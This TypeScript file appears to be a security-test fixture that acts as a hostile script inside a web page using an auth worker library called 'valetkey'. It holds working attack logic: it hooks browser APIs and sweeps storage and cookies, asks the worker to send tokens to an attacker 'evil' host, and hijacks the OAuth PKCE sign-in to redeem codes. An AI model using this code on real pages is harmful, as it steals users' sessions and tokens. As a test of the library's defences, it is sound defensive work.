/**
 * A script of a stranger in the page, from before our own script on. It listens wherever a page can listen, and at the end
 * looks wherever a page can look. What it got together is the test's to read.
 */
const got: string[] = [];
const known = new WeakSet<object>();
const { clone: copyOf } = Response.prototype;

/** Everything that can be read of a value, functions' text included. */
function took(from: string, value: unknown, depth = 0): void {
  if (value === null || (typeof value !== "object" && typeof value !== "function")) {
    got.push(`${from}: ${String(value)}`);
    return;
  }
  if (depth > 6 || known.has(value)) return;
  known.add(value);
  if (value instanceof URLSearchParams || value instanceof URL) got.push(`${from}: ${value}`);
  if (value instanceof Headers) got.push(`${from}: ${JSON.stringify([...value])}`);
  if (value instanceof Request || value instanceof Response) {
    const copy = value instanceof Response ? Reflect.apply(copyOf, value, []) : value.clone();
    copy.text().then(
      (text) => got.push(`${from}: ${text}`),
      () => {},
    );
  }
  if (typeof value === "function") return;
  for (const name of Reflect.ownKeys(value)) {
    try {
      took(`${from}.${String(name)}`, Reflect.get(value, name), depth + 1);
    } catch {}
  }
}

type Method = (...given: unknown[]) => unknown;

/** In the place of a method: hears what goes in and what comes out. */
function overhear(owner: object, name: string): void {
  const real = Reflect.get(owner, name) as Method;
  Reflect.set(owner, name, function (this: unknown, ...given: unknown[]) {
    took(`${name} in`, given);
    const out = Reflect.apply(real, this, given);
    if (out instanceof Promise)
      out.then(
        (value) => took(`${name} out`, value),
        () => {},
      );
    else took(`${name} out`, out);
    return out;
  });
}

for (const [owner, ...names] of [
  [globalThis, "fetch", "postMessage", "structuredClone", "atob", "btoa"],
  [MessagePort.prototype, "postMessage"],
  [Worker.prototype, "postMessage"],
  [BroadcastChannel.prototype, "postMessage"],
  [Storage.prototype, "setItem", "getItem"],
  [IDBObjectStore.prototype, "put", "add", "get"],
  [SubtleCrypto.prototype, "digest", "sign", "generateKey", "exportKey", "encrypt"],
  [TextEncoder.prototype, "encode"],
  [JSON, "parse", "stringify"],
  [Response.prototype, "json", "text", "clone"],
  [Headers.prototype, "set", "get"],
  [History.prototype, "replaceState", "pushState"],
] as const) {
  for (const name of names) overhear(owner, name);
}

/** Every message that reaches this page by any line. */
for (const type of [MessagePort, Worker, BroadcastChannel]) {
  const line = Object.getOwnPropertyDescriptor(type.prototype, "onmessage");
  if (!line?.set) continue;
  const real = line.set;
  Object.defineProperty(type.prototype, "onmessage", {
    ...line,
    set(listener: (event: MessageEvent) => unknown) {
      real.call(this, (event: MessageEvent) => {
        took("message", event.data);
        return listener.call(this, event);
      });
    },
  });
}
for (const name of ["valetkey news", "valetkey questions", "valetkey"]) {
  new BroadcastChannel(name).onmessage = ({ data }) => took(name, data);
}

/** The page's own line to the worker is no secret: whoever is in the page may ask it whatever it likes. */
async function ask(line: Pick<MessagePort, "postMessage" | "onmessage">, evil: string): Promise<void> {
  const { options } = globalThis as unknown as { options: { redirectUri: string } };
  const { origin } = new URL(options.redirectUri);
  const duties = [
    "session",
    "begin",
    "finish",
    "authorize",
    "signIn",
    "refresh",
    "renew",
    "tokens",
    "constructor",
  ];
  const facts = [
    options,
    { ...options, issuer: evil },
    { ...options, redirectUri: evil },
    { ...options, dpop: true },
  ];
  let answers = 0;
  line.onmessage = ({ data }: MessageEvent) => {
    if (data.by === undefined) answers++;
    took("worker", data);
  };
  const [refused] = got.flatMap((text) => /Bearer [\w.~+/-]+/.exec(text) ?? []).slice(-1);
  let questions = 0;
  for (const client of facts) {
    for (const duty of duties) {
      const given = {
        method: "GET",
        url: `${evil}/take`,
        refused,
        scopes: ["notes:write"],
        prompt: "none",
        state: "x",
        returnTo: origin,
      };
      questions++;
      line.postMessage({ id: crypto.randomUUID(), client, duty, given });
    }
  }
  for (let waited = 0; answers < questions && waited < 5_000; waited += 50) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

async function databases(): Promise<void> {
  for (const { name = "" } of await indexedDB.databases()) {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => resolve(opening.result);
      opening.onerror = () => reject(opening.error);
    });
    for (const store of database.objectStoreNames) {
      const all = database.transaction(store).objectStore(store).getAll();
      await new Promise((resolve) => {
        all.onsuccess = resolve;
      });
      took(`database ${name}`, all.result);
    }
    database.close();
  }
}

async function files(folder: FileSystemDirectoryHandle): Promise<void> {
  for await (const [name, entry] of folder) {
    if (entry instanceof FileSystemDirectoryHandle) await files(entry);
    else if (entry instanceof FileSystemFileHandle)
      took(`file ${name}`, await (await entry.getFile()).text());
  }
}

function lineToWorker(): Pick<MessagePort, "postMessage" | "onmessage"> {
  const named = { type: "module", name: "valetkey", extendedLifetime: true } as const;
  if (typeof SharedWorker === "function") return new SharedWorker("/worker.js", named).port;
  return new Worker("/worker.js", named) as unknown as MessagePort;
}

/** @param evil a server of the stranger's, to which the worker is asked to turn. @returns all that was heard and found, as text. */
async function sweep(evil?: string): Promise<string> {
  took("localStorage", { ...localStorage });
  took("sessionStorage", { ...sessionStorage });
  took("cookies", document.cookie);
  took("page", document.documentElement.outerHTML);
  took("window", [window.name, history.state, location.href]);
  took(
    "entries",
    performance.getEntries().map((entry) => entry.toJSON()),
  );
  await databases();
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) took("cache", await cache.match(request));
  }
  await files(await navigator.storage.getDirectory());
  took("globals", { ...globalThis });
  if (evil) await ask(lineToWorker(), evil);
  await new Promise((resolve) => setTimeout(resolve, 100));
  return got.join("\n");
}

/**
 * Takes the part of the worker that other tabs ask, where each has one of its own: it holds every lock that such a worker
 * might want, answers every question before anybody, begins sign-ins with a challenge of its own and redeems what comes.
 */
async function lead(): Promise<void> {
  const { options } = globalThis as unknown as { options: Readonly<Record<string, string>> };
  const { issuer = "", clientId = "", resource = "", redirectUri = "", scope = "" } = options;
  const verifier = "v".repeat(43);
  const hash = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier));
  const octets = String.fromCharCode(...new Uint8Array(hash));
  const challenge = btoa(octets).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
  const form = { client_id: clientId, redirect_uri: redirectUri, resource };
  const wanted = { response_type: "code", scope, state: "s".repeat(43), code_challenge_method: "S256" };
  const query = new URLSearchParams({ ...form, ...wanted, code_challenge: challenge });
  async function finished(code: string): Promise<object> {
    const body = new URLSearchParams({
      ...form,
      code,
      code_verifier: verifier,
      grant_type: "authorization_code",
    });
    got.push(`robbed: ${await (await fetch(`${issuer}/token`, { method: "POST", body })).text()}`);
    return { returnTo: "/", session: { status: "signed-in", scopes: [] } };
  }
  const questions = new BroadcastChannel("valetkey questions");
  questions.onmessage = async ({ data: { question } }) => {
    if (!question) return;
    got.push(`asked: ${JSON.stringify(question)}`);
    const { duty, given, id } = question;
    const value =
      duty === "begin"
        ? `${issuer}/authorize?${query}`
        : duty === "finish"
          ? await finished(given.code)
          : undefined;
    questions.postMessage({ answer: { id, value } });
  };
  for (const name of ["valetkey leader", `${issuer} ${clientId} ${resource}`]) {
    const forever = new Promise<void>(() => undefined);
    navigator.locks.request(name, { steal: true }, () => forever).catch(() => got.push(`lost: ${name}`));
  }
}

Object.assign(globalThis, { sweep, lead });
